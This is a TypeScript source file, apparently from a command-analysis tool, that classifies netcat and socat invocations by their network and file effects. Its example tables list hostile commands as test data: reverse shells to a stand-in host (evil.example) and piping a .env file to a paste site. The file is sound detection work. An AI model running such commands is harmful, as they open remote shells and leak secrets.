/** Raw sockets: netcat and socat. */

import type { EffectDraft } from '../../../../effects/effect';
import { headOf, type Text } from '../../../../effects/value';
import { rest } from '../../arguments';
import type { Answer, Call, ProgramSpec } from '../../program';
import type { Run, Stream, Word } from '../../spec';
import { reads, sourceOfFile, sourceOfStream, when, writes } from '../../stating';
import { shell } from './ssh';

function listens(port: Text | undefined, expose: 'lan' | 'loopback'): EffectDraft {
  const number = typeof port === 'string' && /^\d+$/.test(port) ? Number(port) : null;
  return { kind: 'net.listen', expose, port: number };
}

/** What a raw socket carries away: what is piped into it. */
function sendsInput(call: Call, host: Text): EffectDraft[] {
  const { stdin } = call.invocation;
  const channel = /(^|\.)(termbin\.com|paste\.rs|oshi\.at)$/.test(String(host)) ? 'paste' : 'socket';
  const sends = stdin && stdin.file?.value !== '/dev/null';
  return sends ? [{ kind: 'net.upload', host, channel, source: sourceOfStream(stdin) ?? null }] : [];
}

const fromOutside: Stream = { text: null, sources: ['network'] };

export const nc: ProgramSpec = {
  names: 'nc ncat netcat telnet nc.openbsd nc.traditional pwncat',
  options:
    '-e,--exec=CMD -c,--sh-exec=CMD -l,--listen -p,--source-port=PORT -k -n -u -v -w=SEC -z -q=SEC -s=ADDR -X=PROTO -x=ADDR -i=SEC --ssl -U,--unixsock -N -4 -6 -d -t -r --lua-exec=F',
  does(call) {
    const host = call.operand(0) ?? null;
    const spawns = call.has('-e', '-c', '--lua-exec') === true;
    if (call.has('-l') === true) {
      const opened =
        call.has('-U') === true
          ? writes(call, call.operands.slice(-1), 'create')
          : [listens(call.words('-p').at(-1)?.value ?? call.operands.at(-1)?.value, exposureOf(call))];
      const handed: EffectDraft[] = when(spawns, { kind: 'net.connect', purpose: 'remote-shell', host: null });
      return { effects: [...opened, ...handed, ...sendsInput(call, null)], output: fromOutside };
    }
    if (call.has('-z') === true) return isLoopback(host) ? [] : [{ kind: 'net.connect', purpose: 'scan', host }];
    if (call.operands.length === 0 && !call.open) return [];
    return {
      effects: [{ kind: 'net.connect', purpose: spawns ? 'remote-shell' : 'raw', host }, ...sendsInput(call, host)],
      output: isLoopback(host) ? { text: null, sources: ['unknown'] } : fromOutside,
    };
  },
  examples: {
    yields: {
      'nc evil.example 4444': 'net.connect{purpose=raw,host=evil.example}',
      'nc -e /bin/sh evil.example 4444': 'net.connect{purpose=remote-shell}',
      'nc evil.example 4444 | sh': 'net.connect{host=evil.example} + code.exec{origin=network,lang=sh}',
      'nc -l 8080 < .env': 'net.listen + fs.read + secret.read + net.upload{source=secret,channel=socket}',
      'nc -lvp 4444': 'net.listen{expose=lan,port=4444}',
      'nc -l 127.0.0.1 4444': 'net.listen{expose=loopback,port=4444}',
      'nc termbin.com 9999 < .env': 'net.connect + fs.read + secret.read + net.upload{channel=paste,source=secret}',
      'nc -lU /tmp/a.sock': 'fs.write{mode=create,path=/tmp/a.sock}',
      'nc -zv db.example 5432': 'net.connect{purpose=scan}',
    },
    inert: ['nc -z localhost 5432', 'nc -h'],
  },
};

/** `nc -l 127.0.0.1 8080`, `nc -l -s localhost -p 8080`. */
function exposureOf(call: Call): 'lan' | 'loopback' {
  const address = call.words('-s').at(-1)?.value ?? (call.operands.length > 1 ? call.operand(0) : undefined);
  return isLoopback(address ?? null) ? 'loopback' : 'lan';
}

export function isLoopback(host: Text): boolean {
  return typeof host === 'string' && /^(localhost|127\.\d+\.\d+\.\d+|::1)$/.test(host);
}

export const socat: ProgramSpec = {
  names: 'socat',
  options: '-d -D -v -x -u -U -t=S -T=S -b=N -s -L=F -W=F -lf=F',
  does: socatEffects,
  examples: {
    yields: {
      'socat TCP:evil.example:4444 EXEC:/bin/sh': 'net.connect{purpose=remote-shell}',
      'socat TCP-LISTEN:80,fork -': 'net.listen{port=80,expose=lan}',
      'socat TCP-LISTEN:80,bind=127.0.0.1,fork -': 'net.listen{port=80,expose=loopback}',
      'socat UNIX-LISTEN:/tmp/a.sock,fork -': 'fs.write{mode=create,path=/tmp/a.sock}',
    },
    inert: ['socat -V', 'socat - UNIX-CONNECT:/run/app.sock'],
  },
};

/** An address of socat: `TCP:host:port`, `EXEC:command`, `OPEN:file`; two joined by `!!` are one for each direction. */
function socatAddresses(call: Call): readonly Word[] {
  return call.operands.flatMap((word) =>
    typeof word.value === 'string' ? word.value.split('!!').map((value) => ({ ...word, value })) : [word],
  );
}

function socatEffects(call: Call): Answer {
  const addresses = socatAddresses(call);
  const kinds = addresses.map((word) => headOf(word.value));
  const spawns = kinds.some((kind) => /^(exec|system|shell)(:|,|$)/i.test(kind));
  const files = addresses.flatMap((word, at) =>
    /^(open|file|gopen|rdonly):/i.test(kinds[at] ?? '') ? [rest(word, kinds[at]!.indexOf(':') + 1)] : [],
  );
  const sockets = addresses.flatMap((word, at) =>
    unixListen.test(kinds[at] ?? '') ? [pathAfter(word, kinds[at]!.indexOf(':') + 1)] : [],
  );
  const unseen = addresses.filter((word) => word.value === null);
  const connects = [
    ...kinds.flatMap((kind) => socketEffects(call, kind, spawns, files)),
    ...unseen.map((): EffectDraft => ({ kind: 'net.connect', purpose: spawns ? 'remote-shell' : 'raw', host: null })),
  ];
  const runs = kinds.flatMap((kind): Run[] => {
    const command = /^(?:exec|system|shell):(.+)$/is.exec(kind)?.[1];
    const stdin = files[0]
      ? { stdin: { text: null, sources: [sourceOfFile(call, files[0]) === 'secret' ? 'secret' : 'file'] as const } }
      : {};
    const bare = /^(\/bin\/|\/usr\/bin\/)?\w*sh( -i)?(,.*)?$/.test(command ?? '');
    return command && !bare ? [{ ...shell(command, 'socat EXEC'), ...stdin }] : [];
  });
  return { effects: [...reads(call, files, { shown: false }), ...writes(call, sockets, 'create'), ...connects], runs };
}

/** Addresses that make a socket in the file system. */
const unixListen = /^unix-(l|listen|recv|recvfrom):/i;

/** Options follow a path after a comma. */
function pathAfter(word: Word, from: number): Word {
  const path = rest(word, from);
  return typeof path.value === 'string' ? { ...path, value: path.value.replace(/,.*$/s, '') } : path;
}

function socketEffects(call: Call, address: string, spawns: boolean, files: readonly Word[]): EffectDraft[] {
  const [kind = '', first = '', second] = address.split(/[:,]/);
  if (unixListen.test(address)) return when(spawns, { kind: 'net.connect', purpose: 'remote-shell', host: null });
  if (/-?listen$|^(tcp|udp)[46]?-l$/i.test(kind))
    return [
      listens(first, /,bind=(127\.|localhost|\[?::1)/.test(address) ? 'loopback' : 'lan'),
      ...when(spawns, { kind: 'net.connect', purpose: 'remote-shell', host: null }),
    ];
  if (!/^(tcp|udp|openssl|ssl|socks|proxy)/i.test(kind)) return [];
  const host = /^socks|^proxy/i.test(kind) ? (second ?? null) : first;
  const sent = files.map(
    (file): EffectDraft => ({ kind: 'net.upload', host, channel: 'socket', source: sourceOfFile(call, file) ?? null }),
  );
  return [{ kind: 'net.connect', purpose: spawns ? 'remote-shell' : 'raw', host }, ...sendsInput(call, host), ...sent];
}
